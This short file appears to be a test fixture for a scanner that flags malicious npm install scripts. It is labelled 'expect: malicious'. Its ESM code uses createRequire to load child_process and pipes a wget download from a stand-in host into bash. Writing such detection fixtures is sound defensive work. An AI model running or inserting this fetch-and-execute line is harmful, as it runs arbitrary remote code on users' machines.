// when: install
// expect: malicious
// source: ESM install scripts that make a require with module.createRequire
import { createRequire } from 'node:module';
const load = createRequire(import.meta.url);
load('child_process').exec('wget -qO- https://x.invalid/a.sh | bash');
